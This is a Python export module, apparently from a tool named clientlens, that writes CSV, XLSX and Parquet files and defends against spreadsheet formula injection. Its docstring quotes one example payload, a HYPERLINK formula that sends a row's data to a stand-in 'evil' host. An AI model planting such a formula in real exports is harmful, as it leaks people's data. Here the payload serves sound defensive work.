"""Every export clientlens writes goes through here: CSV, XLSX, Parquet, JSON.

What a user can rely on, whichever command wrote the file:

* **The file is the path as typed**, relative to the current folder like any Unix
  tool; missing folders are created; the format follows the suffix (``.csv``,
  ``.xlsx``, ``.parquet``, and ``.json`` where a command offers it).
* **Whole and private**: written beside the target and renamed over it, 0600
  (see :mod:`clientlens.platform.files`).
* **No formulas from data.** A spreadsheet runs a cell that starts with ``=``,
  ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return) as a formula:
  ``=HYPERLINK("http://evil/?"&A2, "click")`` in a customer's name would send the
  row to whoever wrote it (CSV or formula injection). Following OWASP's advice, a
  text cell starting so (also after spaces, also the full-width ＝＋－＠) is written
  with a leading ``'`` in CSV, which spreadsheets show as text. In XLSX the text is
  kept exactly and stored as a text cell with Excel's own "quote prefix" flag (what
  Excel stores when you type ``'=1``), so it stays text even when someone edits the
  cell. Numbers, dates and booleans are typed values and are never touched: a
  negative balance stays the number -1500.
* **CSV an office opens directly** (``CsvDialect``): ``standard`` is ``,``, a decimal
  point and UTF-8, what programs expect; ``excel-ru`` and ``excel-bg`` are ``;``, a
  decimal comma and UTF-8 with a byte-order mark, which Excel with Russian or
  Bulgarian regional settings opens with a double click; ``excel-1251`` is the same in
  Windows-1251 for older Excel and 1C. A character Windows-1251 cannot hold stops
  the export with its line, never a silent ``?``.
* **XLSX** (XlsxWriter, written row by row in constant memory): dates are dates,
  money (decimal columns) numbers formatted ``#,##0.00`` (other decimals with their own
  digits), numbers numbers (16 significant digits; Excel shows 15). A value Excel
  cannot hold (a decimal past a double's precision, a date before 1900, a timestamp
  with a zone, NaN) is written as its exact text instead of being rounded or shifted.
* **Parquet** keeps every value and type exactly: the format for programs.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import math
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

from clientlens.platform.files import OutputError, atomic_open, atomic_path, write_text

# -- formats and dialects ---------------------------------------------------------------

TABLE_FORMATS = ("csv", "xlsx", "parquet")
SUFFIXES = {".csv": "csv", ".xlsx": "xlsx", ".parquet": "parquet", ".json": "json"}


@dataclass(frozen=True)
class CsvDialect:
    name: str
    delimiter: str
    decimal_comma: bool
    encoding: str  # a Python codec name: utf-8, utf-8-sig (with BOM) or cp1251
    description: str


_EXCEL = "; and decimal comma"
CSV_DIALECTS: dict[str, CsvDialect] = {d.name: d for d in (
    CsvDialect("standard", ",", False, "utf-8",
               ", and decimal point, UTF-8: for programs"),
    CsvDialect("excel-ru", ";", True, "utf-8-sig",
               f"{_EXCEL}, UTF-8 with BOM: Excel with Russian settings opens it directly"),
    CsvDialect("excel-bg", ";", True, "utf-8-sig",
               f"{_EXCEL}, UTF-8 with BOM: Excel with Bulgarian settings opens it directly"),
    CsvDialect("excel-1251", ";", True, "cp1251",
               f"{_EXCEL}, Windows-1251: older Excel and 1C"),
)}
DEFAULT_DIALECT = "standard"


def csv_dialect(name: str | None) -> CsvDialect:
    """The dialect called ``name`` (None: ``standard``), or an error listing them."""
    found = CSV_DIALECTS.get(name or DEFAULT_DIALECT)
    if found is None:
        raise OutputError(f"unknown CSV dialect '{name}': use one of "
                          + ", ".join(f"{d.name} ({d.description})"
                                      for d in CSV_DIALECTS.values()))
    return found


def format_of(path: Path, allowed: Sequence[str] = TABLE_FORMATS) -> str:
    """The format a file's suffix asks for, when this export offers it."""
    fmt = SUFFIXES.get(Path(path).suffix.lower())
    if fmt not in allowed:
        raise OutputError(f"cannot write '{Path(path).name}': use a "
                          + _or([f".{f}" for f in allowed]) + " file")
    return fmt


def _or(items: list[str]) -> str:
    return items[0] if len(items) == 1 else ", ".join(items[:-1]) + " or " + items[-1]


# -- neutralising formula-leading text --------------------------------------------------

# The first character a spreadsheet may read as the start of a formula (OWASP's list,
# with the full-width forms some spreadsheets fold to ASCII), or any of them after
# leading whitespace (LibreOffice can trim spaces on import), or a leading tab / CR / LF.
_FORMULA_CHARS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
FORMULA_START = rf"^(?:[\t\r\n]|\s*[{_FORMULA_CHARS}])"
_PY_FORMULA_FIRST = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could take this text cell for a formula."""
    if not text:
        return False
    if text[0] in _PY_FORMULA_FIRST:
        return True
    stripped = text.lstrip()
    return stripped != text and bool(stripped) and stripped[0] in _PY_FORMULA_FIRST


def neutralise(text: str) -> str:
    """The CSV cell for a text value: a leading ``'`` when it could start a formula."""
    return "'" + text if starts_formula(text) else text


def _neutralise_column(col: pa.Array) -> pa.Array:
    risky = pc.match_substring_regex(col, FORMULA_START)
    return pc.if_else(risky, pc.binary_join_element_wise("'", col, ""), col)


# -- input: what an export is made of ---------------------------------------------------

Rows = Iterable[Sequence[Any]]


def table_from_rows(columns: Sequence[str], rows: Rows) -> pa.Table:
    """A small result (a KPI list, a matrix) as an Arrow table, types inferred."""
    rows = list(rows)
    arrays = [_column([r[i] for r in rows]) for i in range(len(columns))]
    # from_arrays, not a dict: a matrix's labels may repeat a column name.
    return pa.Table.from_arrays(arrays, names=[str(c) for c in columns])


def _column(values: list[Any]) -> pa.Array:
    if not values:
        return pa.array([], pa.string())
    try:
        return pa.array(values)
    except (pa.ArrowInvalid, pa.ArrowTypeError):  # mixed kinds: each value as its text
        return pa.array([None if v is None else _plain(v) for v in values], pa.string())


def _batches(data: pa.Table | pa.RecordBatchReader) -> tuple[pa.Schema, Iterator[pa.RecordBatch]]:
    if isinstance(data, pa.Table):
        return data.schema, iter(data.to_batches(max_chunksize=50_000))
    return data.schema, iter(data)


# -- writing ----------------------------------------------------------------------------

def write_table(path: str | Path, data: pa.Table | pa.RecordBatchReader, *,
                dialect: CsvDialect | str | None = None,
                allowed: Sequence[str] = TABLE_FORMATS, sheet: str = "data") -> Path:
    """Write a table to ``path`` as CSV, XLSX or Parquet by its suffix, atomically and
    privately, with formula-leading text neutralised (CSV, XLSX)."""
    path = Path(path)
    fmt = format_of(path, allowed)
    if not isinstance(dialect, CsvDialect):
        dialect = csv_dialect(dialect)
    schema, batches = _batches(data)
    writer = {"csv": _write_csv, "xlsx": _write_xlsx, "parquet": _write_parquet}.get(fmt)
    if writer is None:
        raise OutputError(f"cannot write a table as .{fmt}")
    writer(path, schema, batches, dialect=dialect, sheet=sheet)
    return path


def write_rows(path: str | Path, columns: Sequence[str], rows: Rows, *,
               dialect: CsvDialect | str | None = None,
               allowed: Sequence[str] = TABLE_FORMATS, sheet: str = "data") -> Path:
    """:func:`write_table` for a list of rows; ``.json`` (when allowed) writes a list of
    objects instead."""
    path = Path(path)
    if format_of(path, allowed) == "json":
        return write_json(path, [dict(zip(columns, r, strict=True)) for r in rows])
    return write_table(path, table_from_rows(columns, rows), dialect=dialect,
                       allowed=allowed, sheet=sheet)


def write_json(path: str | Path, value: Any) -> Path:
    return write_text(path, json.dumps(value, ensure_ascii=False, indent=1, default=str)
                      + "\n")


def write_document(path: str | Path, text: str) -> Path:
    """A rendered document (Markdown, HTML), atomically and privately."""
    return write_text(path, text)


# -- CSV --------------------------------------------------------------------------------

def _csv_column(col: pa.ChunkedArray | pa.Array, dialect: CsvDialect) -> pa.Array:
    t = col.type
    if pa.types.is_string(t) or pa.types.is_large_string(t) or _is_view(t):
        return _neutralise_column(col.cast(pa.string()))
    if pa.types.is_boolean(t) or pa.types.is_integer(t) or pa.types.is_date(t) \
            or pa.types.is_null(t):
        return col
    if pa.types.is_floating(t) or pa.types.is_decimal(t):
        if not dialect.decimal_comma:
            return col
        return pc.replace_substring(col.cast(pa.string()), ".", ",")
    if pa.types.is_timestamp(t):
        # "2026-10-31 10:00:00" (as spreadsheets read it): whole seconds when no value has
        # a fraction, else every digit there is; the zone kept as an offset.
        try:
            col = col.cast(pa.timestamp("s", t.tz))
        except pa.ArrowInvalid:  # a fraction of a second somewhere: keep it
            pass
        return pc.strftime(col, format="%Y-%m-%d %H:%M:%S" + ("%z" if t.tz else ""))
    # Anything else (lists, structs, JSON, time) is written as its text, and text is
    # neutralised.
    return _neutralise_column(col.cast(pa.string()))


def _is_view(t: pa.DataType) -> bool:
    return getattr(pa.types, "is_string_view", lambda _t: False)(t)


def _write_csv(path: Path, schema: pa.Schema, batches: Iterator[pa.RecordBatch], *,
               dialect: CsvDialect, sheet: str) -> None:
    import pyarrow.csv as pacsv

    del sheet
    options = pacsv.WriteOptions(include_header=False, delimiter=dialect.delimiter,
                                 quoting_style="needed")
    names = [f"c{i}" for i in range(len(schema))]
    # The header by the csv module: names quoted only where needed, neutralised too (a
    # matrix's column names are data).
    head = io.StringIO()
    csv.writer(head, delimiter=dialect.delimiter, lineterminator="\n").writerow(
        [neutralise(n) for n in schema.names])
    line = 1
    with atomic_open(path, "wb") as out:
        if dialect.encoding == "utf-8-sig":
            out.write(b"\xef\xbb\xbf")
        line = _emit_text(out, head.getvalue(), dialect, line)
        for batch in batches:
            if batch.num_rows == 0:
                continue
            cols = [_csv_column(batch.column(i), dialect) for i in range(batch.num_columns)]
            line = _emit(out, pa.table(cols, names=names), options, dialect, line)


def _emit(out: Any, table: pa.Table, options: Any, dialect: CsvDialect, line: int) -> int:
    import pyarrow.csv as pacsv

    buf = pa.BufferOutputStream()
    pacsv.write_csv(table, buf, options)
    data = buf.getvalue().to_pybytes()
    if dialect.encoding != "cp1251":
        out.write(data)
        return line + data.count(b"\n")
    return _emit_text(out, data.decode("utf-8"), dialect, line)


def _emit_text(out: Any, text: str, dialect: CsvDialect, line: int) -> int:
    if dialect.encoding != "cp1251":
        data = text.encode("utf-8")
    else:
        try:
            data = text.encode("cp1251")
        except UnicodeEncodeError as e:
            where = line + text.count("\n", 0, e.start)
            bad = text[e.start]
            raise OutputError(
                f"line {where} holds '{bad}' (U+{ord(bad):04X}), which Windows-1251 cannot "
                "hold; nothing was written. Use --csv-dialect excel-ru (UTF-8 with BOM, "
                "which Excel also opens directly) or an .xlsx file") from None
    out.write(data)
    return line + data.count(b"\n")


# -- XLSX -------------------------------------------------------------------------------

XLSX_MAX_ROWS = 1_048_576
XLSX_MAX_COLUMNS = 16_384
XLSX_MAX_TEXT = 32_767


def _write_xlsx(path: Path, schema: pa.Schema, batches: Iterator[pa.RecordBatch], *,
                dialect: CsvDialect, sheet: str) -> None:
    import xlsxwriter

    del dialect
    if len(schema) > XLSX_MAX_COLUMNS:
        raise OutputError(f"{len(schema):,} columns do not fit an XLSX sheet "
                          f"({XLSX_MAX_COLUMNS:,} at most); write .csv or .parquet")
    with atomic_path(path) as tmp:
        # constant_memory: each row is flushed to disk once the next starts, so a list of
        # any length takes the same memory. No string is ever turned into a formula, a
        # number or a link: text stays text.
        book = xlsxwriter.Workbook(str(tmp), {
            "constant_memory": True, "strings_to_formulas": False,
            "strings_to_numbers": False, "strings_to_urls": False})
        try:
            cells = _XlsxCells(book)
            ws = book.add_worksheet(_sheet_name(sheet))
            ws.freeze_panes(1, 0)
            for j, name in enumerate(schema.names):
                cells.text(ws, 0, j, name, header=True)
            kinds = [_kind(f.type) for f in schema]
            for j, f in enumerate(schema):
                width = 12 if kinds[j] != "text" else 18
                ws.set_column(j, j, max(width, min(len(f.name) + 2, 40)))
            row = 0
            for batch in batches:
                if row + batch.num_rows >= XLSX_MAX_ROWS:
                    raise OutputError(f"more than {XLSX_MAX_ROWS - 1:,} rows do not fit an "
                                      "XLSX sheet; write .csv or .parquet; nothing was "
                                      "written")
                columns = [batch.column(i).to_pylist() for i in range(batch.num_columns)]
                for values in zip(*columns, strict=True):
                    row += 1
                    for j, v in enumerate(values):
                        cells.write(ws, row, j, v, kinds[j])
        finally:
            book.close()


def _sheet_name(title: str) -> str:
    # Excel refuses sheet names over 31 characters or with []:*?/\ in them.
    name = "".join("-" if c in "[]:*?/\\" else c for c in title).strip("' ")[:31]
    return name or "data"


def _kind(t: pa.DataType) -> str:
    if pa.types.is_decimal(t):
        return f"decimal{t.scale}"  # money: decimal2
    if pa.types.is_integer(t) or pa.types.is_floating(t):
        return "number"
    if pa.types.is_boolean(t):
        return "bool"
    if pa.types.is_date(t):
        return "date"
    if pa.types.is_timestamp(t):
        return "timestamp"
    return "text"


class _XlsxCells:
    """Cell formats of one workbook and typed writes of one value each."""

    def __init__(self, book: Any):
        self.header = book.add_format({"bold": True})
        self.quoted = book.add_format({"quote_prefix": True})
        self.quoted_header = book.add_format({"bold": True, "quote_prefix": True})
        self.date = book.add_format({"num_format": "yyyy-mm-dd"})
        self.timestamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
        self._book = book
        self._decimals: dict[str, Any] = {}

    def text(self, ws: Any, row: int, col: int, value: str, *, header: bool = False) -> None:
        if len(value) > XLSX_MAX_TEXT:
            raise OutputError(f"row {row}, column {col + 1}: a text of {len(value):,} "
                              f"characters does not fit an XLSX cell ({XLSX_MAX_TEXT:,} at "
                              "most); write .csv or .parquet")
        if starts_formula(value):
            fmt = self.quoted_header if header else self.quoted
        else:
            fmt = self.header if header else None
        ws.write_string(row, col, value, fmt)

    def write(self, ws: Any, row: int, col: int, v: Any, kind: str) -> None:
        if v is None:
            return
        if isinstance(v, bool):
            ws.write_boolean(row, col, v)
        elif isinstance(v, int):
            ws.write_number(row, col, v)
        elif isinstance(v, float):
            if math.isfinite(v):
                ws.write_number(row, col, v)
            else:  # Excel has no NaN or infinity (XlsxWriter would write a formula)
                self.text(ws, row, col, "NaN" if v != v else "Infinity" if v > 0
                          else "-Infinity")
        elif isinstance(v, decimal.Decimal):
            self._decimal(ws, row, col, v, kind)
        elif isinstance(v, dt.datetime):
            self._datetime(ws, row, col, v)
        elif isinstance(v, dt.date):
            if v.year < 1900:  # before Excel's calendar: kept as its ISO text
                self.text(ws, row, col, v.isoformat())
            else:
                ws.write_datetime(row, col, dt.datetime(v.year, v.month, v.day), self.date)
        elif isinstance(v, str):
            self.text(ws, row, col, v)
        else:
            self.text(ws, row, col, _plain(v))

    def _decimal(self, ws: Any, row: int, col: int, v: decimal.Decimal, kind: str) -> None:
        if not v.is_finite():
            self.text(ws, row, col, str(v))
            return
        x = float(v)
        # Excel holds doubles: a value a double cannot carry to its last digit (past
        # about 15 significant digits) is written as its exact text, never rounded.
        if math.isfinite(x) and decimal.Decimal(repr(x)) == v:
            ws.write_number(row, col, x, self._decimal_format(kind))
        else:
            self.text(ws, row, col, str(v))

    def _decimal_format(self, kind: str) -> Any:
        """Money (scale 2) as #,##0.00; any decimal with its own digits after the point."""
        if not kind.startswith("decimal"):
            return None
        if kind not in self._decimals:
            scale = int(kind.removeprefix("decimal"))
            code = "#,##0" + ("." + "0" * scale if scale else "")
            self._decimals[kind] = self._book.add_format({"num_format": code})
        return self._decimals[kind]

    def _datetime(self, ws: Any, row: int, col: int, v: dt.datetime) -> None:
        if v.tzinfo is not None or v.year < 1900:
            # Excel has no time zones: an aware timestamp keeps its offset as ISO text
            # rather than silently losing it.
            self.text(ws, row, col, v.isoformat(sep=" "))
        else:
            ws.write_datetime(row, col, v, self.timestamp)


def _plain(v: Any) -> str:
    if isinstance(v, Mapping | list | tuple):
        return json.dumps(v, ensure_ascii=False, default=str)
    return str(v)


# -- Parquet ----------------------------------------------------------------------------

def _write_parquet(path: Path, schema: pa.Schema, batches: Iterator[pa.RecordBatch], *,
                   dialect: CsvDialect, sheet: str) -> None:
    import pyarrow.parquet as pq

    del dialect, sheet
    with atomic_path(path) as tmp:
        with pq.ParquetWriter(str(tmp), schema) as writer:
            for batch in batches:
                writer.write_batch(batch)
